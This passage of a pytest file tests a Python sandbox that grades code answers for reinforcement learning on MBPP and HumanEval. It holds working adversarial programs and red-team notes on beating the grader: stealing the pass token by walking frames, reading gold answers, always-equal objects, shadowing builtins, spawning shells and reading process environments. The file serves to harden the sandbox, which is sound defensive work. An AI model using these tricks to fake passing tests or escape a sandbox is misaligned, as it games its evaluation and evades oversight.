inside = lambda p, *a, **k: os.getcwd()
for patch in (lambda: setattr(posixpath, "abspath", inside), lambda: setattr(posixpath, "realpath", inside),
              lambda: setattr(posixpath, "_joinrealpath", lambda *a: (os.getcwd(), True)),
              lambda: setattr(os, "fspath", inside), lambda: setattr(os, "fsdecode", inside),
              lambda: setattr(posixpath, "isdir", lambda p: False)):
    patch()
for act in (lambda: open({loose!r}, "w").write("x"), lambda: open("/proc/self/status").read(),
            lambda: open({gold!r}).read(), lambda: open(Sneaky({loose!r} + "-sub"), "w").write("x"),
            lambda: os.listdir(os.open({gold_dir!r}, 0)), lambda: os.remove(Sneaky({gold!r})),
            lambda: __import__("sqlite3").connect({gold!r}),  # sqlite, readline, shared memory: files opened in C
            lambda: __import__("readline").read_history_file({gold!r}), lambda: os.setxattr({gold!r}, "user.x", b"1"),
            lambda: __import__("_posixshmem").shm_open({shm!r}, os.O_CREAT | os.O_RDWR, 0o600)):
    try:
        act()
        done.append(act)
    except Exception:
        pass
"""


@pytest.fixture
def gold_and_loose():
    """A world-readable data file outside the sandbox (like ../shared/data/mbpp/mbpp.jsonl) and a path in /tmp
    that a program must not create."""
    gold_dir = Path(tempfile.mkdtemp(dir="/tmp", prefix="grpo-gold-"))
    os.chmod(gold_dir, 0o755)
    (gold := gold_dir / "mbpp.jsonl").write_text('{"code": "def f(): return 42"}')
    loose = Path("/tmp") / f"grpo-planted-{secrets.token_hex(4)}"
    yield gold, loose
    shutil.rmtree(gold_dir)
    assert not any(Path("/tmp").glob(loose.name + "*")), "a sandboxed program wrote outside its dir"


@pytest.mark.usefixtures("hook_only")
def test_adversary_patches_the_path_checks(gold_and_loose):
    """Red team, fifth session: the audit hook's path checks called posixpath's Python functions, which look up
    names the program can rebind (abspath, _joinrealpath, os.fspath): every path then looked inside the work dir
    (writes anywhere; as non-root, /proc/self/mem and the pass token). A str subclass could also answer the
    check one way and the call another. And any world-readable file could be read: the gold answers
    of MBPP / HumanEval in the data folder passed every problem. Now paths are resolved with C functions bound
    before the program runs, only exact str / bytes are accepted, and reads outside the work dir are limited to
    Python's import path. A second review read the data through readline's history file and wrote through shared
    memory (files opened in C, no audit event): those modules cannot be imported."""
    gold, loose = gold_and_loose
    run_adversary(PATCHED_PATH_CHECKS.format(loose=str(loose), gold=str(gold), gold_dir=str(gold.parent),
                                             shm="/" + loose.name), "assert done")
    assert gold.exists() and not Path("/dev/shm", loose.name).exists()


# the red team's completion: an exception whose repr raises escaped the harness's except clause and killed its
# thread; sys.unraisablehook got the traceback, a reference cycle made the thread's frame garbage, and
# gc.DEBUG_SAVEALL handed it over with the pass token among its locals (1138 of 1138 MBPP + HumanEval passed)
ESCAPING_EXCEPTION = """
import gc, os, sys, _thread
G = globals()
F = {"gc": gc, "os": os, "fd": int(sys.argv[2])}
exec('''
class Reaper:
    def __del__(self):
        gc.set_debug(gc.DEBUG_SAVEALL)
        gc.collect()
        for o in gc.garbage:
            if type(o).__name__ == "frame" and type(o.f_locals.get("nonce")) is bytes:
                os.write(fd, o.f_locals["nonce"])
                os._exit(0)
''', F)
_tls = _thread._local()
_tls.r = F["Reaper"]()
def _hook(u):
    G["keep"] = u.exc_traceback
    sys.unraisablehook = sys.__unraisablehook__
sys.unraisablehook = _hook
class Boom(Exception):
    def __repr__(self):
        raise Boom()
raise Boom()
"""

# ... and one that rebinds names the harness looked up after the program ran: `dict` (the tests' builtins were
# built with it: a fake __import__ then reached the tests' globals and made every comparison true) and
# `BaseException` (the except clause then caught nothing)
HIJACKED_HARNESS_NAMES = """
import __main__, builtins
_d = dict
def _imp(name, g=None, *a, _real=builtins.__import__):
    if type(g) is _d and "_sbx_cmp" in g:
        g["_sbx_cmp"] = lambda ops, *thunks: True
    return _real(name, g, *a)
def _dict(*a, **k):
    t = _d(*a, **k)
    if a and type(a[0]) is _d and "__build_class__" in a[0]:
        t["__import__"] = _imp
    return t
__main__.dict = _dict
__main__.BaseException = ()
def add(x, y):
    return 0
"""


# ... and one that sent SIGINT to its own process (pidfd_send_signal then, raise_signal now that os.pidfd_open is
# gone; neither is audited, and the handler runs in the main thread): the main thread's `except
# BaseException` (rebound to ()) let KeyboardInterrupt out, so the program's excepthook and atexit functions ran in
# the main thread, found the worker function in the dead frame and replaced its exec: the tests never ran
MAIN_THREAD_SIGINT = """
import sys, gc, os, signal, time, atexit
sys.modules["__main__"].BaseException = ()
state = {}
def excepthook(t, v, tb):
    box = [tb]
    box.append(box)
sys.excepthook = excepthook
def at():
    sys.last_type = sys.last_value = sys.last_traceback = None
    gc.set_debug(gc.DEBUG_SAVEALL)
    gc.collect()
    for o in gc.garbage:
        if type(o).__name__ == "frame" and "worker" in o.f_locals:
            w = o.f_locals["worker"]
            for name, cell in zip(w.__code__.co_freevars, w.__closure__):
                if name == "run":
                    def fake(code, ns, *a):
                        ns["check"] = lambda f: None
                    cell.cell_contents = fake
                    state["done"] = True
    while True:
        time.sleep(1)
atexit.register(at)
signal.raise_signal(signal.SIGINT)
while "done" not in state:
    time.sleep(0.01)
"""


@pytest.mark.parametrize("program", [ESCAPING_EXCEPTION, HIJACKED_HARNESS_NAMES, MAIN_THREAD_SIGINT],
                         ids=["escaping-exception", "names", "main-thread-sigint"])
@pytest.mark.usefixtures("hook_only")
def test_adversary_escapes_the_harness_thread(program):
    run_adversary(program, "import math\nassert add(1, 2) == 3")


# ... a third review: a global whose key is an object that hashes and compares like "_sbx_cmp" (it took that
# name's slot in the tests' namespace: 160 of 164 HumanEval passed); bytecode built by marshal.load (not denied,
# unlike marshal.loads) read its own frame and walked f_back to the token (every problem passed; CPython 3.11's
# layout); Tcl's open / read, which raise no audit event, read the gold data
# from a frame `f`, up its f_back chain to a local named nonce (the pass token), written to the result pipe
WALK_TO_THE_TOKEN = """
while f is not None:
    v = f.f_locals.get("nonce")
    if type(v) is bytes and len(v) == 32:
        os.write(int(sys.argv[2]), v)
        os._exit(0)
    f = f.f_back
"""
IMPOSTOR_KEY = """
class K:
    n = 0
    def __hash__(self):
        return hash("_sbx_cmp")
    def __eq__(self, o):
        K.n += 1
        return K.n > 1
globals()[K()] = lambda ops, *thunks: True
def add(*a, **k):
    return 0
"""
CRAFTED_BYTECODE = """
import io, marshal, os, sys
def _me():
    try:
        raise ValueError
    except ValueError:
        pass
    x = None
    x = x
    return x
_c = _me.__code__.co_code
_i = _c.rindex(bytes([100, 0, 125, 0, 124, 0, 125, 0, 124, 0]))
_n = _c[:_i] + bytes([9, 0, 144, 255, 144, 255, 144, 255, 124, 252]) + _c[_i + 10:]
_me.__code__ = marshal.load(io.BytesIO(marshal.dumps(_me.__code__).replace(_c, _n)))
f = _me()
""" + WALK_TO_THE_TOKEN
TCL_FILES = """
import tkinter
tcl = tkinter.Tcl()
tcl.eval("set f [open {gold}]; set d [read $f]; close $f; set d")
tcl.eval("set f [open {loose} w]; puts $f x; close $f")
"""


@pytest.mark.usefixtures("hook_only")
@pytest.mark.parametrize("program", [IMPOSTOR_KEY, CRAFTED_BYTECODE], ids=["impostor-key", "crafted-bytecode"])
def test_adversary_third_review(program):
    run_adversary(program, "import math\nassert add(1, 2) == 3")


@pytest.mark.usefixtures("hook_only")
def test_adversary_reads_and_writes_files_through_tcl(gold_and_loose):
    gold, loose = gold_and_loose
    run_adversary(TCL_FILES.format(gold=gold, loose=loose), "assert True")
    assert not loose.exists()


# ... a fourth review: gc.set_debug(DEBUG_SAVEALL) kept the program's own dead frame (in a reference cycle) in
# gc.garbage, and its f_back chain (not audited) reached the harness's frame and the token (every problem passed);
# and an import name that is a str subclass passed the check (str() of it said "harmless") while C loaded _ctypes
GC_SAVED_FRAME = """
import gc, os, sys
def _grab():
    try:
        raise ValueError
    except ValueError as e:
        t = e.__traceback__
_grab()
gc.set_debug(gc.DEBUG_SAVEALL)
gc.collect()
f = next((o for o in gc.garbage if type(o).__name__ == "frame"), None)  # _grab's frame
""" + WALK_TO_THE_TOKEN
STR_SUBCLASS_IMPORT = """
import sys, os, _imp, importlib.machinery
class S(str):
    def __str__(self):
        return "harmless"
    def split(self, *a):
        return ["harmless"]
class Spec:
    pass
ways = []
for path in [os.path.join(p, n) for p in sys.path if os.path.isdir(p) for n in os.listdir(p) if n.startswith("_ctypes.")]:
    spec = Spec()
    spec.name, spec.origin = S("_ctypes"), path
    try:
        ways.append(_imp.create_dynamic(spec))
    except Exception:
        pass
for get in (lambda: _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("gc")).set_debug,
            lambda: __import__("gc").set_debug):  # a fresh gc would have set_debug back
    try:
        ways.append(get())
    except Exception:
        pass
"""


@pytest.mark.parametrize("program, tests", [(GC_SAVED_FRAME, "import math\nassert add(1, 2) == 3"),
                                            (STR_SUBCLASS_IMPORT, "assert ways")], ids=["gc-saved-frame", "str-subclass-import"])
@pytest.mark.usefixtures("hook_only")
def test_adversary_fourth_review(program, tests):
    run_adversary(program, tests)


# ... a fifth review loaded native code the name check could not see: a fresh gc (set_debug back) from libpython
# through _imp.create_dynamic, _cffi_backend from site-packages (raw memory, libc open / read / write), and a .so
# the program wrote into its own dir. Native modules now load only from the standard library's files, and
# site-packages is not on the sandbox's path
NATIVE_CODE = """
import glob, os, shutil, sys, _imp
class Spec:
    pass
def load(name, path):
    spec = Spec()
    spec.name, spec.origin = name, path
    return _imp.create_dynamic(spec)
ways = []
libs = [lib for p in sys.path for lib in glob.glob(p + "/../libpython3*.so*")]
stdlib_json = [n for p in sys.path for n in glob.glob(p + "/_json.*.so")]
for get in [lambda lib=lib: load("gc", lib).set_debug for lib in libs] + [
        lambda: __import__("_cffi_backend"), lambda: load("_cffi_backend", {cffi!r}),
        lambda: load("_json", shutil.copy(stdlib_json[0], os.path.abspath("_json.so")))]:
    try:
        ways.append(get())
    except Exception:
        pass
"""


@pytest.mark.usefixtures("hook_only")
def test_adversary_loads_native_code():
    cffi = next(iter(glob.glob(os.path.join(os.path.dirname(os.__file__), "..", "**", "_cffi_backend*.so"),
                               recursive=True)), "/nonexistent/_cffi_backend.so")
    run_adversary(NATIVE_CODE.format(cffi=cffi), "assert ways")


def test_adversary_uses_site_packages_inside_the_standard_library(hook_only):
    """The fifteenth review: pyenv's site-packages (Docker's and conda's too) is inside the standard library's dir,
    which the sandbox may read and import native modules from: appended to sys.path, _cffi_backend imported and
    called libc's open / read with no audit event, and read the data's gold solutions (1,138 of 1,138 passed).
    Without the run's own root: in it there is no site-packages at all, which would hide the hook rule's loss."""
    import sysconfig
    site = sysconfig.get_paths()["purelib"]  # (inside the standard library's dir on this project's CPU machines)
    run_adversary(f"""
import os, sys
ways = []
for d in [p + "/site-packages" for p in sys.path] + [{site!r}]:
    try:
        ways.append(open(os.path.join(d, next(n for n in sorted(os.listdir(d)) if n.endswith((".py", ".txt", ".pth"))))))
    except Exception:
        pass
    sys.path.append(d)
for name in "_cffi_backend", "pytest":
    try:
        ways.append(__import__(name))
    except Exception:
        pass
""", "assert ways")


def test_adversary_changes_the_environment():
    """The sixteenth review: with OPENSSL_CONF set through os.environ, _hashlib's libcrypto (a standard-library
    module) dlopened a .so the program had written, with no audit event; its code read the gold solutions (1,130 of
    1,138 passed) and outlived the run. The environment cannot be changed now (variables C libraries read at
    first use: OPENSSL_CONF, GCONV_PATH, LOCPATH, TZ)."""
    run_adversary("""
import os, posix
ways = []
for change in (lambda: os.environ.__setitem__("OPENSSL_CONF", "x.cnf"), lambda: os.putenv("TZ", ":x"),
               lambda: posix.putenv(b"GCONV_PATH", b"."), lambda: os.unsetenv("PATH"), lambda: os.environ.pop("PATH")):
    try:
        ways.append(change())
    except Exception:
        pass
""", "assert ways")


def test_adversary_reads_files_through_gettext_and_uses_nis():
    """The seventeenth review: glibc's gettext (_locale.bindtextdomain / dgettext, no audit event) read .mo files
    outside the box (other runs' files, too) and loaded the gconv library a file named; nis sent network traffic."""
    run_adversary("""
import _locale, locale
ways = [getattr(m, name) for m in (_locale, locale) for name in ("bindtextdomain", "dgettext", "dcgettext", "textdomain")
        if hasattr(m, name)]
try:
    ways.append(__import__("nis"))
except Exception:
    pass
""", "assert ways")


def test_harness_looks_up_no_global_name_once_the_program_ran():
    """A sixth review: worker's dict comprehension looked `type` and `str` up as globals of the harness's __main__,
    which the program can rebind, and that undid the fix for impostor keys (40 of 40 MBPP passed). A rule for the
    whole class: no code that runs after the program (the worker, its comprehensions, the tests' comparison helpers,
    the audit hook and its path resolver) loads a global or builtin name; all are bound before the program runs.
    The one exception is the worker's list comprehension that compiles setup, program and tests, before any runs."""
    import dis

    def nested(code):
        yield code
        for c in code.co_consts:
            if hasattr(c, "co_code"):
                yield from nested(c)
    main = next(c for c in nested(compile(R._HARNESS, "<harness>", "exec")) if c.co_name == "_sandbox_main")
    after = [c for c in main.co_consts if hasattr(c, "co_code") and c.co_name in ("hook", "resolve")]
    assert len(after) == 2
    loaded = {(c.co_name, i.argval) for top in after for c in nested(top) for i in dis.get_instructions(c)
              if i.opname in ("LOAD_GLOBAL", "LOAD_NAME")}
    assert not loaded, loaded


IMPOSTOR_KEY_AND_TYPE = IMPOSTOR_KEY + "import sys\nsys.modules['__main__'].type = lambda o: str\n"


def test_adversary_rebinds_type_for_an_impostor_key():
    run_adversary(IMPOSTOR_KEY_AND_TYPE, "import math\nassert add(1, 2) == 3")


# ... a seventh review: os.open's audit event shows its path, not its dir_fd. As root the sandbox keeps directory fds
# of the standard library open (its import path, out of nobody's reach otherwise): a relative path was checked against
# the cwd (the work dir) while the kernel resolved it under the standard library, where a directory could be opened and
# a file created (then refused only by the directory's permissions). A directory of its own dir shows the same in any uid.
# No way out either (nor before): '..' (now resolved against the cwd), os.fchdir to such an fd, /proc/self/fd/N/..
DIR_FD = """
import os
os.mkdir("d")
ways, fds = [], [fd for fd in range(3, 64) if os.path.isdir(f"/proc/self/fd/{fd}")] + [os.open(os.path.abspath("d"), 0)]
acts = [lambda: open("d/../../grpo-dotdot", "w")] + [act for fd in fds for act in (
    lambda fd=fd: os.open(".", os.O_RDONLY, dir_fd=fd), lambda fd=fd: os.open("f", os.O_WRONLY | os.O_CREAT, dir_fd=fd),
    lambda fd=fd: open("g", "w", opener=lambda p, flags: os.open(p, flags, dir_fd=fd)))] + [act for fd in fds[:-1] for act in (
    lambda fd=fd: os.open(f"/proc/self/fd/{fd}/..", 0), lambda fd=fd: os.fchdir(fd) or open("h", "w"))]  # no way out
for act in acts:
    try:
        ways.append(act())
    except OSError as e:  # with an errno: the kernel refused what the sandbox let through
        ways += [e] if e.errno else []
"""


@pytest.mark.usefixtures("hook_only")
def test_adversary_opens_relative_to_a_directory_fd():
    run_adversary(DIR_FD, "assert ways")


def python_with_builtin(*names: str) -> str | None:
    """Another CPython >= 3.11 on this machine with one of these modules built in (Debian's has syslog and
    _posixsubprocess), or None."""
    for exe in sorted(glob.glob("/usr/bin/python3.1[1-9]") + glob.glob("/usr/local/bin/python3.1[1-9]")):
        out = subprocess.run([exe, "-S", "-c", "import sys; print(*sys.builtin_module_names)"], capture_output=True, text=True)
        if set(names) & set(out.stdout.split()):
            return exe
    return None


@pytest.mark.skipif(not python_with_builtin("syslog"), reason="no Python with syslog built in")
def test_sandbox_runs_on_a_python_with_refused_modules_built_in(monkeypatch):
    """The harness imports every builtin module before the program runs (so that _imp.create_builtin can go), but
    that was after the audit hook was on, which refused syslog: on Debian's Python every program failed."""
    monkeypatch.setattr(sys, "executable", python_with_builtin("syslog"))
    assert R.code_check(fence("def f(x):\n    return x + 1"), {"task": "code", "test_code": "assert f(1) == 2"}) == (1.0, "pass")
    run_adversary("import syslog\ndef f(x):\n    return 0", "assert f(1) == 0")


# ... and every way to start a process, each of which would run without the audit hook: a child that ran would create
# a file in /tmp. _posixsubprocess.fork_exec (subprocess's C half) raises no audit event: only RLIMIT_NPROC stopped it
# (EAGAIN, as nobody and as a plain user); it cannot be imported now (a way counted below), nor subprocess with it
PROCESSES = """
import os
parent, sh, ways = os.getpid(), ["/bin/sh", "-c", "touch {loose}"], []
def fork_exec():
    import _posixsubprocess
    ways.append(_posixsubprocess)
    r, w = os.pipe()
    args = [[a.encode() for a in sh], [sh[0].encode()], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False,
            -1, None, None, None, -1, None]
    try:
        return _posixsubprocess.fork_exec(*args, False)  # 3.11, 3.12: allow_vfork
    except TypeError:
        return _posixsubprocess.fork_exec(*args)
for spawn in (fork_exec, os.fork, lambda: os.posix_spawn(sh[0], sh, {{}}), lambda: os.posix_spawnp("sh", sh, {{}}),
              lambda: os.system(sh[2]), lambda: os.popen(sh[2]).read(), lambda: __import__("subprocess").run(sh),
              lambda: __import__("pty").fork(), lambda: os.execv(sh[0], sh)):
    try:
        ways.append(spawn())
    except Exception:
        pass
    if os.getpid() != parent:  # a forked child
        os._exit(0)
"""


@pytest.mark.usefixtures("hook_only")
@pytest.mark.parametrize("python", [sys.executable, python_with_builtin("_posixsubprocess")], ids=["this", "builtin"])
def test_adversary_starts_a_process(python, gold_and_loose, monkeypatch):
    if python is None:
        pytest.skip("no Python with _posixsubprocess built in")
    monkeypatch.setattr(sys, "executable", python)
    run_adversary(PROCESSES.format(loose=gold_and_loose[1]), "assert ways")
    assert not gold_and_loose[1].exists()


def test_adversary_reads_parent_environment(monkeypatch):
    secret = secrets.token_hex(8)
    monkeypatch.setenv("GRPO_TEST_SECRET", secret)
    run_adversary(f"import os\nfound = {secret!r} in repr(dict(os.environ))\n"
                  f"for pid in (os.getppid(), {os.getpid()}, 1, 'self'):\n"
                  f"    try:\n        found = found or {secret!r}.encode() in open(f'/proc/{{pid}}/environ', 'rb').read()\n"
                  f"    except Exception:\n        pass", "assert found")


@pytest.mark.parametrize("exit_call", ["import sys\nsys.exit(0)", "import os\nos._exit(0)", "raise SystemExit",
                                       "import sys\nsys.exit()", "import os\nos.kill(os.getpid(), 9)"])
def test_adversary_exits_before_tests(exit_call):
    run_adversary(exit_call, "assert False")


def test_adversary_kills_parent():
    """Kills its parent (the intermediate), the caller (this pytest process) and their groups, then exits 0
    before the failing tests; the caller must survive and the reward stay 0."""
    run_adversary(f"import os, signal\nfor pid in (os.getppid(), {os.getpid()}):\n"
                  f"    for kill in (lambda: os.kill(pid, signal.SIGKILL), lambda: os.killpg(os.getpgid(pid), signal.SIGKILL)):\n"
                  f"        try:\n            kill()\n        except Exception:\n            pass\nos._exit(0)",
                  "assert False")


def test_adversary_overrides_builtins_and_harness():
    """Rebinds builtins the tests use, the harness's globals (exec, callable), the excepthook and tries a tracer
    that would skip the asserts; the tests must still see the real builtins and fail."""
    run_adversary("import builtins, os, sys, __main__\ndef f(x):\n    return 0\n"
                  "builtins.abs = lambda x: 0\nbuiltins.len = lambda x: 4\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
                  "__main__.exec = lambda *a, **k: None\n__main__.callable = lambda x: False\n"
                  "sys.excepthook = lambda *a: os._exit(0)\n"
                  "try:\n    sys.settrace(lambda *a: None)\nexcept Exception:\n    pass",
                  "assert abs(f(1) - 1) < 1e-9\nassert len([1, 2]) == 2\nassert f(1) == 1")
    # a HumanEval answer that brings its own check() loses to the real one, defined after it
    reward, status = R.code_check(fence("def check(candidate):\n    pass\ndef f(x):\n    return 0"),
                                  {"task": "code", "prompt": "", "test_code": "def check(candidate):\n    assert candidate(1) == 1\n",
                                   "entry_point": "f"})
    assert (reward, status) == (0.0, "fail")


def test_adversary_forges_the_nonce_channel():
    """Writing to the result pipe without the nonce, or reading the harness's frames, does not pass."""
    run_adversary("import os, sys\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'0' * 32)\n    except OSError:\n        pass\n"
                  "try:\n    print(sys._getframe(1).f_locals)\nexcept Exception:\n    pass\n"
                  "try:\n    raise ValueError\nexcept ValueError as e:\n    try:\n        e.__traceback__.tb_frame\n    except AttributeError:\n        pass\n"
                  "os._exit(0)", "assert True")


FRAME_WALK = """
import os, signal, sys, _thread, importlib.util, importlib.machinery
def steal(sig, frame):  # the pass token from any frame below, written to every descriptor
    while frame is not None:
        for v in list(frame.f_locals.values()):
            if isinstance(v, bytes) and len(v) == 32:
                for fd in range(3, 64):
                    try:
                        os.write(fd, v)
                    except OSError:
                        pass
                os._exit(0)
        frame = frame.f_back
installed = 0
fresh = importlib.util.module_from_spec(importlib.machinery.BuiltinImporter.find_spec("_signal"))
for mod in (signal, fresh):
    for sig in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGINT, signal.SIGUSR1, signal.SIGXCPU):
        try:
            mod.signal(sig, steal)
            installed += 1
        except Exception:
            pass
for start in (lambda: signal.setitimer(signal.ITIMER_VIRTUAL, 0.05), lambda: _thread.interrupt_main(),
              lambda: signal.raise_signal(signal.SIGUSR1)):
    try:
        start()
    except Exception:
        pass
def f(x):
    t = 0
    for i in range(3_000_000):  # CPU time, so the virtual timer fires here, during the tests
        t += i
    return 0
"""


def test_adversary_signal_handler_walks_frames_to_the_token():
    """Issue 14 (a): a signal handler's frame argument led back to the harness's frames, where the pass token was
    a local; installed through the signal module or a fresh copy of _signal, started by a timer, interrupt_main
    or raise_signal. The program now runs in a thread where Python refuses signal handlers."""
    run_adversary(FRAME_WALK, "assert f(1) == 1", timeout=5)


NONCE_FROM_MEMORY = """
import os, sys, struct, re, importlib, importlib.util, importlib.machinery
ways = []
spec = importlib.util.find_spec("_ctypes")  # by file path too, as the harness's own copy would be (no import event)
by_path = lambda path: importlib.util.module_from_spec(importlib.util.spec_from_loader(
    "_ctypes", importlib.machinery.ExtensionFileLoader("_ctypes", path)))
by_name = lambda name: importlib.util.module_from_spec(importlib.util.spec_from_file_location(name, spec.origin))
for get in (lambda: importlib.import_module("ctypes"), lambda: importlib.import_module("_ctypes"),
            lambda: by_path(spec.origin), lambda: by_path(os.path.realpath(spec.origin)), lambda: by_name("x._ctypes"),
            lambda: importlib.import_module("_xxsubinterpreters")):  # its interpreters run without this hook
    try:
        ways.append(get())
    except Exception:
        pass
for path in ("/proc/self/maps", "/proc"):
    try:
        os.open(path, os.O_RDONLY)
        ways.append(path)
    except Exception:
        pass
for escape in (lambda: os.open("proc/self/maps", os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY)),  # a directory fd
               lambda: os.symlink("/proc", "p"), lambda: os.open("../" * 12 + "proc/self/maps", os.O_RDONLY, dir_fd=3)):
    try:
        ways.append(escape())  # relative paths are checked against the cwd, not against their dir_fd
    except Exception:
        pass
for craft in (lambda: (lambda: 1).__code__.replace(co_consts=(2,)),  # crafted code objects read memory
              lambda: __import__("marshal").loads(__import__("marshal").dumps(compile("1", "", "eval"))),
              lambda: __import__("marshal").load(__import__("io").BytesIO(__import__("marshal").dumps(compile("1", "", "eval"))))):
    try:
        ways.append(craft())
    except Exception:
        pass
"""


def test_adversary_reads_its_memory_for_the_token():
    """A red-team review read the pass token out of the sandbox's memory: /proc/self/maps through a directory fd
    (the hook checked only paths under "/proc/" resolved against the cwd) and ctypes pointers (not audited). Now
    ctypes is never loaded by the harness (a loaded _ctypes could be loaded again by file path with no audit event)
    and cannot be imported, /proc and directories outside the work dir cannot be opened, code objects cannot be built
    or unmarshalled (imports compile from source instead)."""
    run_adversary(NONCE_FROM_MEMORY, "assert ways")


def test_adversary_rebinds_what_the_strict_comparisons_use():
    """A second red-team round: the candidate, called by the tests, rebinds builtins or module globals that the
    harness's comparison helpers (enumerate) or a trusted Counter's __eq__ (collections' all) would look up."""
    run_adversary("import builtins, collections\ndef f(x):\n    builtins.enumerate = lambda ops: [(len(ops) - 1, lambda a, b: True)]\n"
                  "    builtins.all = collections.all = lambda *a: True\n    return collections.Counter('ab')",
                  "from collections import Counter\nassert f(1) == {'a': 2}\nassert Counter(f(2)) == Counter('zz')")


def test_adversary_audit_hook_and_monitoring():
    """A program's own audit hook would see the tests' code (exec/compile events); sys.monitoring (3.12+) too. And
    the perf trampoline (3.12+) wrote /tmp/perf-PID.map with no audit event (nineteenth review). Under 3.12+ both
    were there (the test failed there only)."""
    run_adversary("import sys\nseen = []\ntry:\n    sys.addaudithook(lambda e, a: seen.append(e))\nexcept Exception:\n    pass\n"
                  "open('x.txt', 'w').close()\nmon = hasattr(sys, 'monitoring') or hasattr(sys, 'activate_stack_trampoline')",
                  "assert seen or mon")


ALWAYS_EQUAL = {  # (name, program defining `def NAME`) that answer "equal" (or "close") to anything
    "object": "class A:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
              "    __sub__ = __rsub__ = __add__ = __radd__ = lambda s, o: 0\n    __abs__ = lambda s: 0\n    __hash__ = lambda s: 0\n"
              "    __contains__ = lambda s, o: True\n    __bool__ = lambda s: True\n    __len__ = lambda s: 1\n"
              "    __iter__ = lambda s: iter([s])\n    __getitem__ = lambda s, i: s\n    __float__ = lambda s: 0.0\n"
              "def NAME(*a, **k):\n    return A()\n",
    "int_subclass": "class B(int):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = int.__hash__\n"
                    "    __sub__ = __rsub__ = lambda s, o: B(0)\ndef NAME(*a, **k):\n    return B(7)\n",
    "mock_any": "from unittest import mock\ndef NAME(*a, **k):\n    return mock.ANY\n",
    "in_a_list": "class A:\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 0\ndef NAME(*a, **k):\n    return [A(), A()]\n",
    # C types that compare by their contents or forward everything: trusted only where their contents are checked
    "proxy": "import weakref\nclass A:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
             "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n    __sub__ = __rsub__ = lambda s, o: 0\n    __abs__ = lambda s: 0\n"
             "    __contains__ = lambda s, o: True\nkeep = A()\ndef NAME(*a, **k):\n    return weakref.proxy(keep)\n",
    "mappingproxy": "import types\nclass A:\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 0\n"
                    "def NAME(*a, **k):\n    return types.MappingProxyType({0: A()})\n",
    "dict_keys": "class A:\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: hash(3)\n"
                 "def NAME(*a, **k):\n    return {A(): 1}.keys()\n",
}


@pytest.mark.parametrize("kind", list(ALWAYS_EQUAL))
def test_adversary_always_equal_objects(kind):
    """Issue 14 (b): an object whose __eq__ (or __sub__, __contains__, ...) always agrees passed `==`, `!=`, `in`,
    `abs(x - y) < eps`; the tests now see only plain values made by the judge, and handles that refuse comparisons.
    (No `f(x) != 8` line: a list of the program's objects is rightly != 8, as any wrong plain answer is.)"""
    tests = ("assert f(1) == 7\nassert abs(f(3) - 2.5) < 1e-6\nassert f(4) in (1, 2)\n"
             "assert 7 == f(5)\nassert f(6) == [1, 2]\nassert not (f(7) != 3)\nassert 0 <= f(8) < 1\nassert f(9) <= 5\n"
             "assert f(10) == {0: 5}\nassert f(11) == {3}")
    for test in tests.splitlines():
        run_adversary(ALWAYS_EQUAL[kind].replace("NAME", "f"), test)


def test_plain_values_keep_legitimate_answers():
    """Values cross to the judge as plain ones: numbers across types, containers, Counter, deque, chains, `is`,
    generators and iterators behave as in Python; objects of the program's classes are handles, whose attributes
    and calls are served by its process (MBPP builds trees of a Node class the program defines)."""
    prog = ("from collections import Counter, OrderedDict, defaultdict, deque\nclass P:\n    def __init__(s, v):\n"
            "        s.v = v\n    def __eq__(s, o):\n        return isinstance(o, P) and s.v == o.v\n"
            "def f(x):\n    return x\ndef c(xs):\n    return Counter(xs)\ndef g(n):\n    return (i for i in range(n))\n")
    tests = ("assert f(1) == 1.0 and f(2) != 3 and f([1, (2, 3)]) == [1, (2, 3)] and f({1: 'a'}) == {1: 'a'}\n"
             "assert c('aab') == {'a': 2, 'b': 1} and f(OrderedDict(a=1)) == {'a': 1} and f(deque([1])) == deque([1])\n"
             "assert f(None) is None and 0 < f(1) < 2 and 'b' in f('abc') and 3 not in f([1, 2])\n"
             "assert abs(f(2.5) - 2.5) < 1e-9 and list(g(3)) == [0, 1, 2] and f(P(1)).v == 1 and list(f(iter('ab'))) == ['a', 'b']\n"
             "p = P(1); p.v = 5\nassert f(p).v == 5 and f(int) is int and f(10**5000) - 1 == 10**5000 - 1\n"
             "from collections import defaultdict\nd = defaultdict(int); d['x'] += 1\nassert f(d) == {'x': 1} and f(True) == 1 and [f(i) * 2 for i in range(3)] == [0, 2, 4]")
    assert R.code_check(fence(prog), {"task": "code", "prompt": "", "test_code": tests}) == (1.0, "pass")


def test_adversary_shadows_builtins_the_tests_call():
    """Issue 14 (c): module-level functions named like builtins (abs, len, tuple, sorted, isinstance) were what the
    tests called; the tests now see the real builtins (only the problem's own entry point may shadow one)."""
    run_adversary("def abs(x):\n    return 0\ndef len(x):\n    return 2\ndef tuple(*a):\n    return ()\n"
                  "def sorted(x, **k):\n    return [1, 2]\ndef isinstance(*a):\n    return True\ndef f(x):\n    return x\n",
                  "assert abs(f(5) - 1) < 1e-9\nassert len(f([1])) == 2\nassert tuple(f([1])) == ()\n"
                  "assert sorted(f([3])) == [1, 2]\nassert isinstance(f(1), str)")
    # the entry point itself may be named like a builtin (mbpp-126 asks for a function `sum`)
    prob = {"task": "code", "prompt": "", "test_code": "assert sum(10, 15) == 6", "entry_point": "sum"}
    assert R.code_check(fence("def sum(a, b):\n    return 6"), prob) == (1.0, "pass")
    # a helper given by the setup (the prompt) is what the tests call, not the program's replacement of it
    prob = {"task": "code", "prompt": "", "setup_code": "def poly(x):\n    return x * x - 4\n", "entry_point": "root",
            "test_code": "def check(candidate):\n    assert abs(poly(candidate())) < 1e-9\n"}
    assert R.code_check(fence("def poly(x):\n    return 0\ndef root():\n    return 3"), prob) == (0.0, "fail")
    assert R.code_check(fence("def poly(x):\n    return 0\ndef root():\n    return 2"), prob) == (1.0, "pass")



